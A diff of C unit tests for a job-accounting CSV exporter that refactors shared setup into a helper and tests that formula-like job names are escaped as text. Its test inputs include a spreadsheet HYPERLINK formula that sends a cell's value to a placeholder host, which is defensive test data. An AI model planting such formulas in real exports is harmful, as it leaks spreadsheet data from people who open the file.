@@ -103,13 +103,12 @@ static void test_report_totals(void **state) {
     json_decref(jobs);
 }
 
-/* A CSV cell with a comma or quote is quoted; an unknown cell is empty. */
-static void test_csv_quoting(void **state) {
-    (void)state;
+/* The CSV row of a queued job of that name (malloc'd). */
+static char *csv_row_of(const char *name) {
     acct_params p;
     acct_params_default(&p);
-    acct_row r = {.job_id = 7, .user = "u", .name = "a, \"b\"",
-                  .state = "queued", .submit_s = 0, .end_s = -1};
+    acct_row r = {.job_id = 7, .user = "u", .name = name, .state = "queued",
+                  .submit_s = 0, .end_s = -1};
     acct_row_measure(&r, NULL, 0, 10);
     json_t *o = acct_row_json(&r, &p, 10);
     char *buf = NULL;
@@ -117,10 +116,17 @@ static void test_csv_quoting(void **state) {
     FILE *f = open_memstream(&buf, &len);
     acct_csv_row(f, o, NULL);
     fclose(f);
-    assert_non_null(strstr(buf, ",\"a, \"\"b\"\"\","));
-    assert_non_null(strstr(buf, ",queued,0,,,0,"));
-    free(buf);
     json_decref(o);
+    return buf;
+}
+
+/* A CSV cell with a comma or quote is quoted; an unknown cell is empty. */
+static void test_csv_quoting(void **state) {
+    (void)state;
+    char *row = csv_row_of("a, \"b\"");
+    assert_non_null(strstr(row, ",\"a, \"\"b\"\"\","));
+    assert_non_null(strstr(row, ",queued,0,,,0,"));
+    free(row);
 }
 
 /* A name a spreadsheet would run as a formula (any user names a job)
@@ -128,24 +134,13 @@ static void test_csv_quoting(void **state) {
  * it has them. */
 static void test_csv_formula_is_text(void **state) {
     (void)state;
-    acct_params p;
-    acct_params_default(&p);
     const char *names[] = {"=HYPERLINK(\"http://x/\"&A2)", "-2+3", "@SUM(A1)"};
     const char *want[] = {",\"'=HYPERLINK(\"\"http://x/\"\"&A2)\",", ",'-2+3,",
                           ",'@SUM(A1),"};
     for (int i = 0; i < 3; i++) {
-        acct_row r = {.job_id = 7, .user = "u", .name = names[i],
-                      .state = "queued", .submit_s = 0, .end_s = -1};
-        acct_row_measure(&r, NULL, 0, 10);
-        json_t *o = acct_row_json(&r, &p, 10);
-        char *buf = NULL;
-        size_t len = 0;
-        FILE *f = open_memstream(&buf, &len);
-        acct_csv_row(f, o, NULL);
-        fclose(f);
-        if (!strstr(buf, want[i])) fail_msg("%s lacks %s", buf, want[i]);
-        free(buf);
-        json_decref(o);
+        char *row = csv_row_of(names[i]);
+        if (!strstr(row, want[i])) fail_msg("%s lacks %s", row, want[i]);
+        free(row);
     }
 }
 
